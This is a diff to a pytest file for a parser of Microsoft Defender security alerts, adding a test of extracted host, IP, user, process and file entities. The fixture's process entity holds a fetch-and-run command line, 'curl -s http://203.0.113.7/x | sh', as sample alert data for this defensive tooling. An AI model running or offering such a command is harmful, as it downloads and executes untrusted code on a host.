@@ -4,7 +4,8 @@ import msgspec
 import pytest
 
 from schemas.alert import Alert
-from schemas.kinds import understand
+from schemas.entities import Details, Entity
+from schemas.kinds import details, understand
 from tests.fixtures import (
     RESOURCE,
     SUBSCRIPTION,
@@ -25,9 +26,9 @@ def test_every_field() -> None:
     alert = read()
     assert msgspec.structs.asdict(alert) == {
         "kind": "defender_alert",
-        "key": bytes.fromhex("fb057b44cee22691135d79b0b7caa79e"),
+        "key": bytes.fromhex("e00126a4d9a8c10b764313925f9b7704"),
         "entity": record["SystemAlertId"],
-        "version": "New 2026-03-04T10:13:14.9876543Z 09e7b8f1",
+        "version": "New 2026-03-04T10:13:14.9876543Z d7e070bb",
         "title": "Suspicious download by a system account",
         "description": record["Description"],
         "severity": "high",
@@ -55,6 +56,36 @@ def test_every_field() -> None:
         "enqueued_ms": 0,
         "subscription": None,
     }
+
+
+def test_details() -> None:
+    found = details(read())
+    md5 = "0a" * 16
+    assert found == Details(
+        entities=(
+            Entity(type="host", name="shop-vm-1", id=RESOURCE, role="target"),
+            Entity(type="ip", name="203.0.113.7", role="source", attributes={"CountryCode": "NL"}),
+            Entity(
+                type="user", name="svc-web", domain="SHOP-VM-1", attributes={"Host": "shop-vm-1"}
+            ),
+            Entity(
+                type="process",
+                name="curl",
+                path="/usr/bin",
+                command_line="curl -s http://203.0.113.7/x | sh",
+                pid="0x1f40",
+                hashes=(md5,),
+                attributes={"Account": "svc-web", "Host": "shop-vm-1"},
+            ),
+            Entity(type="file", name="curl", path="/usr/bin", hashes=(md5,)),
+        ),
+        attributes={
+            "workspace_id": "22222222-0000-4000-8000-000000000002",
+            "workspace_subscription_id": WORKSPACE_SUBSCRIPTION,
+            "resource_type": "Virtual Machine",
+            "remediation": "Ask the machine's owner.\nIsolate the machine.",
+        },
+    )
 
 
 def test_a_change_anywhere_is_an_update() -> None:
